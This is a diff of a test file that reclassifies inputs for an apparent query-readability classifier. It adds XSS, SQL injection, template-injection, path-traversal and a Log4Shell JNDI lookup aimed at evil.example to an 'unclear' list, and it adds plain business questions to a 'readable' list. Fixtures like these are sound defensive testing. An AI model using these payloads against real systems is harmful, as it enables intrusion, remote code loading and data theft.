@@ -34,6 +34,12 @@ UNCLEAR = {
         "hjkl hjkl",
         "12345",
         "3.14",
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "'; DROP TABLE measures; --",
+        "SELECT password FROM users",
+        "{{7*7}} ${jndi:ldap://evil.example/a}",
+        "../../../../etc/passwd",
     ],
 }
 READABLE = [
@@ -46,8 +52,10 @@ READABLE = [
     "strengths",
     "anything for startups?",
     "что это",
-    "<script>alert(1)</script>",
-    "'; DROP TABLE measures; --",
+    "<b>第七条</b>",
+    "How do I select a partner from the list of companies?",
+    "Can a firm import equipment under this policy?",
+    "What functions does the platform have?",
     "你好,冷库补多少?",
     "测试平台怎么建?",
 ]
